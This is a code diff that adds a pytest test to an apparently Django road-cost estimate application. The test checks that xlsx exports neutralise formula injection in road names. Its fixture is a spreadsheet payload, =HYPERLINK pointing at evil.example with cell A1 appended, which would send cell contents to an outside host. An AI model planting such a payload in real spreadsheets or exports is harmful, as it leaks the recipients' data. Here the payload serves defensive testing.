@@ -356,3 +356,19 @@ def test_overhead_above_15_percent_is_refused_by_the_model():
     with pytest.raises(ValidationError):
         pl.full_clean()
     assert math.isclose(float(PriceList.objects.get(pk=pl.pk).overhead_pct), 15.0)
+
+
+def test_rab_keeps_its_own_formulas_and_neutralises_formula_like_names(client):
+    """Issue 12 × 14: a road named like a formula is text in the RAB (leading '), while the RAB's arithmetic stays live."""
+    from estimates.exports import OWN_FORMULA
+
+    client.force_login(get_user_model().objects.create_user("analis-rab"))
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+    road = _road(geodesic_line(*TANGERANG, 200.0)["coordinates"], road_class="local", name=evil)
+    r = estimate(client, format="xlsx", road_ids=[road.pk], template="OVERLAY-40")
+    assert r.status_code == 200, r.content
+    wb = load_workbook(io.BytesIO(r.content))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    formulas = [c.value for c in cells if c.data_type == "f"]
+    assert formulas and all(OWN_FORMULA.match(f) for f in formulas) and not any("HYPERLINK" in f for f in formulas)
+    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value and c.data_type == "s" for c in cells)
